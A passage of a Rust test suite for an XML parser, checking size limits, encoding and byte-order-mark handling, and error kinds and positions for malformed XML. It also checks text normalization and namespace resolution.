        assert_eq!(err_with(input, &options), XmlError::TextTooLong { pos: pos(1, 4), limit: 5 }, "{input}");
    }
    // Text that starts with a reference or a CDATA section.
    assert_eq!(err_with("<a>\n&lt;&lt;&lt;abc</a>", &options), XmlError::TextTooLong { pos: pos(1, 4), limit: 5 });
    assert_eq!(
        err_with("<a><![CDATA[abc]]><![CDATA[def]]></a>", &options),
        XmlError::TextTooLong { pos: pos(1, 4), limit: 5 }
    );
    assert_eq!(err_with("<a><b/>&#xE9;&#xE9;&#xE9;</a>", &options), XmlError::TextTooLong { pos: pos(1, 8), limit: 5 });
}

#[test]
fn text_limit_applies_after_line_end_normalization() {
    let options = with_limits(|l| l.max_text_bytes = 4);
    let doc = ok_with("<a>ab\r\nc</a>", &options);
    assert_eq!(all_text(&doc), "ab\nc");
    ok_with("<a><![CDATA[a\r\nbc]]>\r\n</a>", &with_limits(|l| l.max_text_bytes = 5));
}

#[test]
fn default_text_limit_boundary() {
    let text = "t".repeat(8 * MIB);
    let input = format!("<a>{text}</a>");
    let doc = ok(&input);
    assert_eq!(all_text(&doc).len(), 8 * MIB);
    assert_eq!(err(format!("<a>{text}t</a>")), XmlError::TextTooLong { pos: pos(1, 4), limit: 8 * MIB });
    // Assembled from two CDATA sections.
    let half = "c".repeat(4 * MIB);
    assert_eq!(
        err(format!("<a><![CDATA[{half}]]><![CDATA[{half}c]]></a>")),
        XmlError::TextTooLong { pos: pos(1, 4), limit: 8 * MIB }
    );
}

// ================================================================== encoding

#[test]
fn latin1_bytes_are_not_utf8() {
    assert_eq!(err(b"<a>caf\xE9</a>"), XmlError::NotUtf8 { pos: pos(1, 7) });
    assert_eq!(err(b"<a>\n  tr\xE2\xECng</a>"), XmlError::NotUtf8 { pos: pos(2, 5) });
    // In a name, after multi-byte UTF-8 on the same line (columns are characters).
    assert_eq!(err(b"<a>\xC4\x90i\xE1\xBB\x83m <\xE9/></a>"), XmlError::NotUtf8 { pos: pos(1, 10) });
}

#[test]
fn truncated_utf8_sequence_is_not_utf8() {
    // "ể" is E1 BB 83; drop the last byte.
    assert_eq!(err(b"<a>\xE1\xBB</a>"), XmlError::NotUtf8 { pos: pos(1, 4) });
    // At the very end of the input.
    assert_eq!(err(b"<a/>\n\xE1\xBB"), XmlError::NotUtf8 { pos: pos(2, 1) });
    // A lone continuation byte, an overlong encoding, an encoded surrogate.
    assert_eq!(err(b"<a>\x80</a>"), XmlError::NotUtf8 { pos: pos(1, 4) });
    assert_eq!(err(b"<a>\xC0\xBC</a>"), XmlError::NotUtf8 { pos: pos(1, 4) });
    assert_eq!(err(b"<a>\xED\xA0\x80</a>"), XmlError::NotUtf8 { pos: pos(1, 4) });
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian { vec![0xFE, 0xFF] } else { vec![0xFF, 0xFE] };
    for unit in text.encode_utf16() {
        out.extend(if big_endian { unit.to_be_bytes() } else { unit.to_le_bytes() });
    }
    out
}

#[test]
fn utf16_with_byte_order_mark_is_not_utf8() {
    let text = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a>Học bạ</a>";
    assert_eq!(err(utf16(text, false)), XmlError::NotUtf8 { pos: pos(1, 1) });
    assert_eq!(err(utf16(text, true)), XmlError::NotUtf8 { pos: pos(1, 1) });
}

#[test]
fn utf16_without_byte_order_mark_is_refused() {
    // UTF-16 of ASCII is valid UTF-8 full of NULs; it must still not parse.
    let mut input = utf16("<a>x</a>", false);
    input.drain(..2);
    let e = err(&input);
    assert!(e.pos().is_some(), "{e:?}");
}

#[test]
fn utf8_byte_order_mark_is_accepted() {
    let doc = Document::parse(b"\xEF\xBB\xBF<a>x</a>").expect("BOM + document");
    assert_eq!(doc.root_element().local_name(), "a");
    let doc = Document::parse(b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a/>").expect("BOM + decl");
    assert_eq!(doc.root_element().text_pos(), pos(2, 1));
    // Positions after a BOM do not count it.
    assert_eq!(err(b"\xEF\xBB\xBF<!DOCTYPE a><a/>"), XmlError::DtdNotAllowed { pos: pos(1, 1) });
}

#[test]

fn second_byte_order_mark_is_text_outside_root() {
    // The reader strips one BOM; quick-xml then skips the next U+FEFF as if it were a BOM, so its
    // offsets and the reader's disagree: `&span[1..]` panics (parser.rs, Event::Start arm), and
    // without a following element the U+FEFF is not reported at all.
    assert_eq!(malformed(b"\xEF\xBB\xBF\xEF\xBB\xBF<a/>"), (Malformed::TextOutsideRoot, pos(1, 1)));
    assert_eq!(malformed(b"\xEF\xBB\xBF\xEF\xBB\xBF="), (Malformed::TextOutsideRoot, pos(1, 1)));
    // Today NoRootElement at 1:2.
    assert_eq!(malformed(b"\xEF\xBB\xBF\xEF\xBB\xBF"), (Malformed::TextOutsideRoot, pos(1, 1)));
}

#[test]

fn not_utf8_after_byte_order_mark_does_not_count_it() {
    assert_eq!(err(b"<a>\xE9</a>"), XmlError::NotUtf8 { pos: pos(1, 4) });
    assert_eq!(malformed(b"\xEF\xBB\xBF<a>\x01</a>"), (Malformed::InvalidCharacter(1), pos(1, 4)));
    // Today: 1:5.
    assert_eq!(err(b"\xEF\xBB\xBF<a>\xE9</a>"), XmlError::NotUtf8 { pos: pos(1, 4) });
}

#[test]
fn declared_ascii_compatible_encoding_with_ascii_content_is_accepted() {
    for encoding in ["ISO-8859-1", "iso-8859-1", "US-ASCII", "windows-1252", "UTF-8", "utf-8"] {
        let input = format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>\n<a x=\"1\">plain &#233; text</a>");
        let doc = ok(&input);
        assert_eq!(all_text(&doc), "plain é text", "{encoding}");
    }
}

#[test]
fn declared_latin1_with_non_ascii_content_is_unsupported_encoding() {
    let input = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<a>Học bạ</a>";
    assert_eq!(err(input), XmlError::UnsupportedEncoding { declared: "ISO-8859-1".into(), pos: pos(1, 1) });
    // Even if the only non-ASCII character is in a comment.
    let input = "<?xml version='1.0' encoding='windows-1258'?><a><!--ố--></a>";
    assert_eq!(err(input), XmlError::UnsupportedEncoding { declared: "windows-1258".into(), pos: pos(1, 1) });
}

#[test]
fn declared_non_ascii_compatible_encoding_is_unsupported() {
    for encoding in ["UTF-16", "utf-16le", "UTF-32", "EBCDIC-US", "Shift_JIS"] {
        let input = format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?><a/>");
        assert_eq!(err(&input), XmlError::UnsupportedEncoding { declared: encoding.into(), pos: pos(1, 1) });
    }
}

#[test]
fn xml_version_other_than_1_0_is_unsupported() {
    assert_eq!(
        err("<?xml version=\"1.1\"?><a/>"),
        XmlError::UnsupportedVersion { declared: "1.1".into(), pos: pos(1, 1) }
    );
    assert_eq!(
        err(b"\xEF\xBB\xBF<?xml version='2.0' encoding='UTF-8'?><a/>"),
        XmlError::UnsupportedVersion { declared: "2.0".into(), pos: pos(1, 1) }
    );
}

#[test]
fn malformed_xml_declaration() {
    for input in [
        "<?xml?><a/>",
        "<?xml encoding=\"UTF-8\"?><a/>",
        "<?xml version=\"1.0\" standalone=\"maybe\"?><a/>",
        "<?xml version=\"1.0\" standalone=\"yes\" encoding=\"UTF-8\"?><a/>",
        "<?xml version=\"1.0\"encoding=\"UTF-8\"?><a/>",
        "<?xml version=1.0?><a/>",
        "<?xml version=\"1.0\" foo=\"bar\"?><a/>",
        "<?xml version=\"1.0\" encoding=\"\"?><a/>",
        "<?xml version=\"1.0\" encoding=\"8BIT\"?><a/>",
    ] {
        let e = err(input);
        assert!(matches!(e, XmlError::Malformed { .. } | XmlError::UnsupportedVersion { .. }), "{input}: {e:?}");
        assert_eq!(e.pos(), Some(pos(1, 1)), "{input}: {e:?}");
    }
    ok("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><a/>");
    ok("<?xml version='1.0' standalone='no' ?>\n<a/>");
}

// ================================================================== malformed XML, with positions

#[test]
fn mismatched_end_tag() {
    assert_eq!(
        malformed("<a><b></a></b>"),
        (Malformed::MismatchedEndTag { expected: "b".into(), found: "a".into() }, pos(1, 7))
    );
    assert_eq!(
        malformed("<p:a xmlns:p=\"urn:p\">\n  <b>\n  </c>\n</p:a>"),
        (Malformed::MismatchedEndTag { expected: "b".into(), found: "c".into() }, pos(3, 3))
    );
    // Same namespace, different prefix: still a different name.
    assert_eq!(
        malformed("<p:a xmlns:p=\"u\" xmlns:q=\"u\"></q:a>"),
        (Malformed::MismatchedEndTag { expected: "p:a".into(), found: "q:a".into() }, pos(1, 30))
    );
}

#[test]
fn end_tag_without_start_tag() {
    let (what, at) = malformed("<a/></a>");
    assert_eq!(at, pos(1, 5));
    assert!(matches!(what, Malformed::UnmatchedEndTag(ref n) if n == "a"), "{what:?}");
    let (what, at) = malformed("</a>");
    assert_eq!(at, pos(1, 1));
    assert!(matches!(what, Malformed::UnmatchedEndTag(ref n) if n == "a"), "{what:?}");
}

#[test]
fn unclosed_element_at_end_of_input() {
    assert_eq!(malformed("<a>\n<b>\n</b>"), (Malformed::UnexpectedEof { open_element: Some("a".into()) }, pos(3, 5)));
    assert_eq!(
        malformed("<r xmlns:p=\"urn:p\"><p:s>text"),
        (Malformed::UnexpectedEof { open_element: Some("p:s".into()) }, pos(1, 29))
    );
}

#[test]
fn unclosed_markup() {
    for (input, what) in [
        ("<a>\n<!-- never closed\n</a>", "comment"),
        ("<a>\n<![CDATA[ never closed </a>", "CDATA section"),
        ("<a>\n<?pi never closed </a>", "processing instruction"),
        ("<a>\n<b x=\"1\"", "tag"),
        ("<a>\n<b x=\"1/></a>", "tag"),
        ("<a>\n<b x='1/></a>", "tag"),
        ("<a>\n</a", "tag"),
    ] {
        assert_eq!(malformed(input), (Malformed::Unclosed(what), pos(2, 1)), "{input:?}");
    }
    let (what, at) = malformed("<?xml version=\"1.0\"");
    assert_eq!(at, pos(1, 1));
    assert!(matches!(what, Malformed::Unclosed(_)), "{what:?}");
}

#[test]
fn double_hyphen_in_comment() {
    // The position is that of the offending "--".
    assert_eq!(malformed("<a><!-- a -- b --></a>"), (Malformed::DoubleHyphenInComment, pos(1, 11)));
    assert_eq!(malformed("<a>\n<!-- a ---></a>"), (Malformed::DoubleHyphenInComment, pos(2, 8)));
    assert_eq!(malformed("<!-----><a/>").0, Malformed::DoubleHyphenInComment);
    ok("<a><!-- a - b --><!----><!-- - --></a>");
}

#[test]
fn duplicate_attribute() {
    let input = "<a x=\"1\" x=\"2\"/>";
    assert_eq!(malformed(input), (Malformed::DuplicateAttribute("x".into()), pos(1, 10)));
    let input = "<a xml:lang=\"vi\" xml:lang=\"en\"/>";
    assert_eq!(
        malformed(input),
        (Malformed::DuplicateAttribute("xml:lang".into()), pos(1, col(input, "xml:lang=\"en")))
    );
    let input = "<a xmlns=\"urn:a\" xmlns=\"urn:b\"/>";
    assert_eq!(malformed(input), (Malformed::DuplicateAttribute("xmlns".into()), pos(1, 18)));
    let input = "<a xmlns:p=\"urn:a\" xmlns:p=\"urn:b\"/>";
    assert_eq!(malformed(input), (Malformed::DuplicateAttribute("xmlns:p".into()), pos(1, 20)));
    // Same name, different namespaces, or one unprefixed: fine.
    ok("<a xmlns:p=\"urn:p\" xmlns:q=\"urn:q\" x=\"0\" p:x=\"1\" q:x=\"2\"/>");
}

#[test]
fn duplicate_attribute_through_two_prefixes_for_one_namespace() {
    let input = "<a xmlns:p=\"urn:x\" xmlns:q=\"urn:x\" p:n=\"1\" q:n=\"2\"/>";
    assert_eq!(malformed(input), (Malformed::DuplicateAttribute("q:n".into()), pos(1, col(input, "q:n"))));
    // One of the prefixes declared on an ancestor.
    let input = "<r xmlns:p=\"urn:x\"><a xmlns:q=\"urn:x\" q:n=\"1\" p:n=\"2\"/></r>";
    assert_eq!(malformed(input), (Malformed::DuplicateAttribute("p:n".into()), pos(1, col(input, "p:n"))));
    // xml:lang written through another prefix would need binding the XML namespace: refused earlier.
}

#[test]

fn duplicate_xmlns_xml_declaration() {
    let input = format!("<a xmlns:xml=\"{XML_NAMESPACE}\" xmlns:xml=\"{XML_NAMESPACE}\"/>");
    let second = input.rfind("xmlns:xml").unwrap() as u32 + 1;
    assert_eq!(malformed(&input), (Malformed::DuplicateAttribute("xmlns:xml".into()), pos(1, second)));
}

#[test]
fn undeclared_prefix() {
    assert_eq!(malformed("<p:a/>"), (Malformed::UndeclaredPrefix("p".into()), pos(1, 2)));
    assert_eq!(malformed("<a p:x=\"1\"/>"), (Malformed::UndeclaredPrefix("p".into()), pos(1, 4)));
    // Out of scope after the declaring element ends.
    let input = "<a><b xmlns:p=\"urn:p\"/><p:c/></a>";
    assert_eq!(malformed(input), (Malformed::UndeclaredPrefix("p".into()), pos(1, col(input, "p:c"))));
    let input = "<a>\n  <b xmlns:p=\"urn:p\"></b>\n  <c p:x=\"1\"/></a>";
    assert_eq!(malformed(input), (Malformed::UndeclaredPrefix("p".into()), pos(3, 6)));
    // The default namespace does not apply to unprefixed attributes, but xml is always bound.
    let doc = ok("<a xml:lang=\"vi\"/>");
    assert_eq!(doc.root_element().attribute(Some(XML_NAMESPACE), "lang"), Some("vi"));
}

#[test]
fn invalid_namespace_declarations() {
    let cases = [
        ("<a xmlns:p=\"\"/>", 4),
        ("<a xmlns:xml=\"urn:not-xml\"/>", 4),
        ("<a xmlns:x=\"http://www.w3.org/XML/1998/namespace\"/>", 4),
        ("<a xmlns=\"http://www.w3.org/XML/1998/namespace\"/>", 4),
        ("<a xmlns:xmlns=\"urn:x\"/>", 4),
        ("<a xmlns:p=\"http://www.w3.org/2000/xmlns/\"/>", 4),
        ("<a xmlns=\"http://www.w3.org/2000/xmlns/\"/>", 4),
        ("<r>\n  <a y=\"1\" xmlns:p=\"\"/></r>", 0),
        ("<xmlns:a/>", 2),
        ("<a xmlns:x=\"u\" xmlns:y=\"u\" xmlns:p=\"\"/>", 0),
    ];
    for (input, column) in cases {
        let (what, at) = malformed(input);
        assert!(matches!(what, Malformed::InvalidNamespaceDeclaration(_)), "{input}: {what:?}");
        let expected = match column {
            0 if input.contains('\n') => pos(2, 12),
            0 => pos(1, col(input, "xmlns:p")),
            c => pos(1, c),
        };
        assert_eq!(at, expected, "{input}");
    }
    // Binding xml to its own namespace is allowed, and the default namespace may be undeclared.
    ok(&format!("<a xmlns:xml=\"{XML_NAMESPACE}\" xml:lang=\"vi\"/>"));
    ok("<a xmlns=\"urn:a\"><b xmlns=\"\"/></a>");
}

#[test]
fn less_than_in_attribute_value() {
    assert_eq!(malformed("<a x=\"1<2\"/>"), (Malformed::LessThanInAttributeValue, pos(1, 8)));
    assert_eq!(malformed("<a>\n<b x='<'></b></a>"), (Malformed::LessThanInAttributeValue, pos(2, 7)));
    // '>' and an escaped '<' are fine.
    let doc = ok("<a x=\"1>2 &lt; 3 &#60; 4\"/>");
    assert_eq!(root_attr(&doc, "x"), "1>2 < 3 < 4");
}

#[test]
fn bare_ampersand() {
    assert_eq!(malformed("<a>fish & chips</a>"), (Malformed::BareAmpersand, pos(1, 9)));
    assert_eq!(malformed("<a>\nAT&T</a>"), (Malformed::BareAmpersand, pos(2, 3)));
    assert_eq!(malformed("<a>&</a>"), (Malformed::BareAmpersand, pos(1, 4)));
    assert_eq!(malformed("<a>&;</a>"), (Malformed::BareAmpersand, pos(1, 4)));
    assert_eq!(malformed("<a x=\"a & b\"/>"), (Malformed::BareAmpersand, pos(1, 9)));
    assert_eq!(malformed("<a x=\"&amp\"/>"), (Malformed::BareAmpersand, pos(1, 7)));
    assert_eq!(malformed("<a x=\"& b;\"/>"), (Malformed::BareAmpersand, pos(1, 7)));
}

#[test]
fn invalid_character_references() {
    for (input, reference, at) in [
        ("<a>&#0;</a>", "&#0;", pos(1, 4)),
        ("<a>&#x0;</a>", "&#x0;", pos(1, 4)),
        ("<a>x&#xD800;</a>", "&#xD800;", pos(1, 5)),
        ("<a>&#xDFFF;</a>", "&#xDFFF;", pos(1, 4)),
        ("<a>&#xFFFE;</a>", "&#xFFFE;", pos(1, 4)),
        ("<a>&#x1;</a>", "&#x1;", pos(1, 4)),
        ("<a>&#1114112;</a>", "&#1114112;", pos(1, 4)),
        ("<a>&#x110000;</a>", "&#x110000;", pos(1, 4)),
        ("<a>&#99999999999999999999999999;</a>", "&#99999999999999999999999999;", pos(1, 4)),
        ("<a>&#;</a>", "&#;", pos(1, 4)),
        ("<a>&#x;</a>", "&#x;", pos(1, 4)),
        ("<a>&#X41;</a>", "&#X41;", pos(1, 4)),
        ("<a>&#x-41;</a>", "&#x-41;", pos(1, 4)),
        ("<a>&#+65;</a>", "&#+65;", pos(1, 4)),
        ("<a>&#6 5;</a>", "&#6 5;", pos(1, 4)),
        ("<a>\n<b x=\"&#0;\"/></a>", "&#0;", pos(2, 7)),
        ("<a x=\"ok &#xD800;\"/>", "&#xD800;", pos(1, 10)),
    ] {
        assert_eq!(malformed(input), (Malformed::InvalidCharacterReference(reference.into()), at), "{input}");
    }
}

#[test]
fn control_characters_are_refused_everywhere() {
    for (input, code, at) in [
        ("<a>x\u{1}</a>", 1, pos(1, 5)),
        ("<a>\0</a>", 0, pos(1, 4)),
        ("<a>Học bạ\u{1}</a>", 1, pos(1, 10)),
        ("<a>\n\n  \u{1F}</a>", 0x1F, pos(3, 3)),
        ("<a>\u{FFFE}</a>", 0xFFFE, pos(1, 4)),
        ("<a>\u{FFFF}</a>", 0xFFFF, pos(1, 4)),
        ("<a x=\"\u{1}\"/>", 1, pos(1, 7)),
        ("<a><!--ab\u{1}--></a>", 1, pos(1, 10)),
        ("<a><![CDATA[ab\u{1}]]></a>", 1, pos(1, 15)),
        ("<!--\u{8}--><a/>", 8, pos(1, 5)),
    ] {
        assert_eq!(malformed(input), (Malformed::InvalidCharacter(code), at), "{input:?}");
    }
}

#[test]
fn control_character_in_names_is_refused() {
    let (what, at) = malformed("<a\u{1}/>");
    assert!(matches!(what, Malformed::InvalidName(_) | Malformed::InvalidCharacter(1)), "{what:?}");
    assert!(at == pos(1, 2) || at == pos(1, 3), "{at}");
}

#[test]
fn cdata_end_in_text() {
    assert_eq!(malformed("<a>x]]>y</a>"), (Malformed::CdataEndInText, pos(1, 5)));
    assert_eq!(malformed("<a>\n  ]]></a>"), (Malformed::CdataEndInText, pos(2, 3)));
    // Escaped, or split by a CDATA section, or inside one, it is fine.
    let doc = ok("<a>]]&gt;<![CDATA[]]]]><![CDATA[>]]>]]</a>");
    assert_eq!(all_text(&doc), "]]>]]>]]");
}

#[test]
fn text_outside_the_root_element() {
    assert_eq!(malformed("hello<a/>"), (Malformed::TextOutsideRoot, pos(1, 1)));
    assert_eq!(malformed("  \n  hi<a/>"), (Malformed::TextOutsideRoot, pos(2, 3)));
    assert_eq!(malformed("<a/>\nbye"), (Malformed::TextOutsideRoot, pos(2, 1)));
    assert_eq!(malformed("<a/><![CDATA[x]]>"), (Malformed::TextOutsideRoot, pos(1, 5)));
    assert_eq!(malformed("<![CDATA[]]><a/>"), (Malformed::TextOutsideRoot, pos(1, 1)));
    assert_eq!(malformed("&amp;<a/>"), (Malformed::TextOutsideRoot, pos(1, 1)));
    assert_eq!(malformed("<a/>&#32;"), (Malformed::TextOutsideRoot, pos(1, 5)));
    // Non-breaking space is not XML white space.
    assert_eq!(malformed("\u{A0}<a/>"), (Malformed::TextOutsideRoot, pos(1, 1)));
    // White space, comments and PIs are fine.
    ok(" \t\r\n<!--c--><?pi?>\n<a/>\n<!--c--> <?pi d?>\r\n");
}

#[test]
fn two_root_elements() {
    assert_eq!(malformed("<a/><b/>"), (Malformed::MultipleRoots, pos(1, 5)));
    assert_eq!(malformed("<a></a>\n<!--c-->\n<a></a>"), (Malformed::MultipleRoots, pos(3, 1)));
}

#[test]
fn no_root_element() {
    assert_eq!(malformed(""), (Malformed::NoRootElement, pos(1, 1)));
    assert_eq!(malformed("   \n "), (Malformed::NoRootElement, pos(2, 2)));
    assert_eq!(malformed("<!-- only -->"), (Malformed::NoRootElement, pos(1, 14)));
    assert_eq!(malformed("<?xml version=\"1.0\"?>\n"), (Malformed::NoRootElement, pos(2, 1)));
    assert_eq!(malformed(b"\xEF\xBB\xBF"), (Malformed::NoRootElement, pos(1, 1)));
}

#[test]
fn xml_declaration_not_at_the_start() {
    for (input, at) in [
        (" <?xml version=\"1.0\"?><a/>", pos(1, 2)),
        ("\n<?xml version=\"1.0\"?><a/>", pos(2, 1)),
        ("<!--c--><?xml version=\"1.0\"?><a/>", pos(1, 9)),
        ("<a/><?xml version=\"1.0\"?>", pos(1, 5)),
        ("<?xml version=\"1.0\"?><?xml version=\"1.0\"?><a/>", pos(1, 22)),
    ] {
        let (what, got) = malformed(input);
        assert!(
            matches!(&what, Malformed::MisplacedXmlDeclaration)
                || matches!(&what, Malformed::ReservedProcessingInstructionTarget(t) if t == "xml"),
            "{input:?}: {what:?}"
        );
        assert_eq!(got, at, "{input:?}");
    }
}

#[test]
fn processing_instruction_target_xml_is_reserved() {
    assert_eq!(malformed("<a><?xml foo?></a>").1, pos(1, 4));
    assert_eq!(
        malformed("<a>\n<?XmL foo?></a>"),
        (Malformed::ReservedProcessingInstructionTarget("XmL".into()), pos(2, 1))
    );
    assert_eq!(malformed("<a/><?XML?>"), (Malformed::ReservedProcessingInstructionTarget("XML".into()), pos(1, 5)));
    // Targets that merely start with "xml" are fine.
    let doc = ok("<?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?><a><?xml2 x?></a>");
    let targets: Vec<_> = doc.descendants().filter_map(|n| n.pi_target()).collect();
    assert_eq!(targets, ["xml-stylesheet", "xml2"]);
}

#[test]
fn invalid_processing_instruction() {
    assert_eq!(malformed("<a><?1pi?></a>"), (Malformed::InvalidProcessingInstruction, pos(1, 4)));
    assert_eq!(malformed("<a>\n<? pi?></a>"), (Malformed::InvalidProcessingInstruction, pos(2, 1)));
    assert_eq!(malformed("<a><?p:i?></a>"), (Malformed::ColonInProcessingInstructionTarget("p:i".into()), pos(1, 4)));
}

#[test]
fn invalid_names() {
    assert_eq!(malformed("<1a/>"), (Malformed::InvalidName("1a".into()), pos(1, 2)));
    assert_eq!(malformed("<a>\n  <-b></-b></a>"), (Malformed::InvalidName("-b".into()), pos(2, 4)));
    assert_eq!(malformed("<a 1x=\"1\"/>"), (Malformed::InvalidName("1x".into()), pos(1, 4)));
    assert_eq!(malformed("<.a/>"), (Malformed::InvalidName(".a".into()), pos(1, 2)));
    assert_eq!(malformed("<a =\"1\"/>"), (Malformed::InvalidName("".into()), pos(1, 4)));
    // XML names that are not QNames (Namespaces in XML 1.0).
    assert_eq!(malformed("<a:b:c/>"), (Malformed::NotQualifiedName("a:b:c".into()), pos(1, 2)));
    assert_eq!(malformed("<:a/>"), (Malformed::NotQualifiedName(":a".into()), pos(1, 2)));
    assert_eq!(malformed("<a:/>"), (Malformed::NotQualifiedName("a:".into()), pos(1, 2)));
    assert_eq!(malformed("<a x:=\"1\"/>"), (Malformed::NotQualifiedName("x:".into()), pos(1, 4)));
    assert_eq!(malformed("<a :x=\"1\"/>"), (Malformed::NotQualifiedName(":x".into()), pos(1, 4)));
    assert_eq!(malformed("<a xmlns:=\"urn:x\"/>"), (Malformed::NotQualifiedName("xmlns:".into()), pos(1, 4)));
    assert_eq!(malformed("<a\u{D7}/>"), (Malformed::InvalidName("a\u{D7}".into()), pos(1, 2)));
    let (what, at) = malformed("< a/>");
    assert!(matches!(what, Malformed::InvalidName(_)), "{what:?}");
    assert_eq!(at, pos(1, 2));
    // Vietnamese names are fine.
    let doc = ok("<ĐiểmSố môn=\"Toán\"/>");
    assert_eq!(doc.root_element().local_name(), "ĐiểmSố");
    assert_eq!(root_attr(&doc, "môn"), "Toán");
}

#[test]
fn missing_white_space_between_attributes() {
    assert_eq!(malformed("<a x=\"1\"y=\"2\"/>"), (Malformed::InvalidAttributeSyntax, pos(1, 9)));
    assert_eq!(malformed("<a x='1'y='2'></a>"), (Malformed::InvalidAttributeSyntax, pos(1, 9)));
}

#[test]
fn invalid_attribute_syntax() {
    assert_eq!(malformed("<a x=1/>"), (Malformed::InvalidAttributeSyntax, pos(1, 6)));
    assert_eq!(malformed("<a x=1></a>"), (Malformed::InvalidAttributeSyntax, pos(1, 6)));
    assert_eq!(malformed("<a>\n<b x=\"1\" y=two/></a>"), (Malformed::InvalidAttributeSyntax, pos(2, 12)));
    assert_eq!(malformed("<a x/>"), (Malformed::InvalidAttributeSyntax, pos(1, 5)));
    assert_eq!(malformed("<a x y=\"1\"/>"), (Malformed::InvalidAttributeSyntax, pos(1, 6)));
    assert_eq!(malformed("<a x=/>"), (Malformed::InvalidAttributeSyntax, pos(1, 6)));
    // White space around '=' is fine.
    let doc = ok("<a x = \"1\"\n\ty\t=\t'2' />");
    assert_eq!((root_attr(&doc, "x"), root_attr(&doc, "y")), ("1", "2"));
}

#[test]
fn markup_errors() {
    for input in ["<a><!x></a>", "<a><!-x--></a>", "<a><![CDAT[x]]></a>", "<a><!ENTITY e \"x\"></a>"] {
        let e = err(input);
        assert_eq!(e.pos(), Some(pos(1, 4)), "{input}: {e:?}");
        assert!(matches!(e, XmlError::Malformed { .. } | XmlError::DtdNotAllowed { .. }), "{input}: {e:?}");
    }
}

#[test]

fn invalid_character_in_processing_instruction_position() {
    // check_chars is given the PI's start, but the offset it adds is relative to the data.
    assert_eq!(malformed("<a><?target data\u{1}?></a>"), (Malformed::InvalidCharacter(1), pos(1, 17)));
}

#[test]

fn lone_carriage_return_counts_as_a_line_end_in_positions() {
    // XML 1.0 section 2.11: CR and CR LF are line ends, read as LF.
    assert_eq!(malformed("<a>\r\r<1/></a>"), (Malformed::InvalidName("1".into()), pos(3, 2)));
}

#[test]
fn crlf_line_ends_in_positions() {
    assert_eq!(malformed("<a>\r\n\r\n  <1/></a>"), (Malformed::InvalidName("1".into()), pos(3, 4)));
}

// ================================================================== normalization (positive)

#[test]
fn line_ends_in_text_become_line_feeds() {
    let doc = ok("<a>one\r\ntwo\rthree\nfour\r\r\n</a>");
    assert_eq!(all_text(&doc), "one\ntwo\nthree\nfour\n\n");
    let doc = ok("<a><![CDATA[x\r\ny\rz]]></a>");
    assert_eq!(all_text(&doc), "x\ny\nz");
    let doc = ok("<a><!--x\r\ny\rz--><?pi a\r\nb?></a>");
    let texts: Vec<_> = doc.root_element().children().filter_map(|n| n.text()).collect();
    assert_eq!(texts, ["x\ny\nz", "a\nb"]);
    // A character reference to CR is kept.
    let doc = ok("<a>x&#13;\r\ny&#xD;</a>");
    assert_eq!(all_text(&doc), "x\r\ny\r");
}

#[test]
fn attribute_values_are_normalized() {
    let doc = ok("<a x=\"a\tb\nc\r\nd\re\" y=\"&#xA;&#x9;&#xD;&#32;\" z=\" two  spaces \"/>");
    assert_eq!(root_attr(&doc, "x"), "a b c d e");
    assert_eq!(root_attr(&doc, "y"), "\n\t\r ");
    // CDATA attributes keep leading, trailing and repeated spaces.
    assert_eq!(root_attr(&doc, "z"), " two  spaces ");
    let doc = ok("<a x='&quot;&apos;&lt;&gt;&amp;&#65;&#x42;&#x1F600;' y=\"'\" z='\"'/>");
    assert_eq!(root_attr(&doc, "x"), "\"'<>&AB\u{1F600}");
    assert_eq!(root_attr(&doc, "y"), "'");
    assert_eq!(root_attr(&doc, "z"), "\"");
}

#[test]
fn cdata_sections_merge_into_text() {
    let doc = ok("<a>x<![CDATA[<y>&amp;]]>z&lt;<![CDATA[]]>w</a>");
    let children: Vec<_> = doc.root_element().children().collect();
    assert_eq!(children.len(), 1);
    assert_eq!(children[0].node_type(), NodeType::Text);
    assert_eq!(children[0].text(), Some("x<y>&amp;z<w"));
    assert_eq!(children[0].text_pos(), pos(1, 4));
    // A comment separates text nodes.
    let doc = ok("<a>x<!--c-->y</a>");
    let kinds: Vec<_> = doc.root_element().children().map(|n| n.node_type()).collect();
    assert_eq!(kinds, [NodeType::Text, NodeType::Comment, NodeType::Text]);
    // An empty CDATA section alone is no text node at all, or an empty one; never a panic.
    let doc = ok("<a><![CDATA[]]></a>");
    assert_eq!(all_text(&doc), "");
}

#[test]
fn predefined_entities_and_character_references_are_resolved() {
    let doc = ok("<a>&lt;&gt;&amp;&apos;&quot; &#65;&#x42;&#x62;&#0065; &#x1EC3; &#x1F600; &#9;</a>");
    assert_eq!(all_text(&doc), "<>&'\" ABbA ể \u{1F600} \t");
}

#[test]
fn references_are_replaced_once() {
    // A reference's replacement is never read again as markup or as another reference.
    let doc = ok("<a x=\"&#38;#60; &amp;lt;\">&#38;lt; &amp;amp; &#60;b/&#62;</a>");
    assert_eq!(root_attr(&doc, "x"), "&#60; &lt;");
    assert_eq!(all_text(&doc), "&lt; &amp; <b/>");
    assert_eq!(doc.root_element().children().count(), 1);
}

#[test]
fn end_tag_syntax() {
    for (input, at) in [("<a></ a>", pos(1, 4)), ("<a></a x=\"1\">", pos(1, 4)), ("<a>\n</b>", pos(2, 1))] {
        let (what, got) = malformed(input);
        assert!(matches!(what, Malformed::MismatchedEndTag { .. }), "{input}: {what:?}");
        assert_eq!(got, at, "{input}");
    }
    assert_eq!(malformed("<a/ >"), (Malformed::InvalidAttributeSyntax, pos(1, 3)));
    // White space before '>' is allowed in both tags.
    ok("<a\n></a\n\t>");
}

#[test]
fn namespaces_are_resolved() {
    let input = "<r xmlns=\"urn:default\" xmlns:p=\"urn:p\">\
        <p:c p:x=\"1\" y=\"2\" xml:lang=\"vi\">\
        <e xmlns=\"\" z=\"3\"><p:f xmlns:p=\"urn:p2\"/></e>\
        <g/>\
        </p:c></r>";
    let doc = ok(input);
    let r = doc.root_element();
    assert!(r.has_name(Some("urn:default"), "r"));
    assert_eq!(r.lookup_namespace(""), Some("urn:default"));
    assert_eq!(r.lookup_namespace("p"), Some("urn:p"));
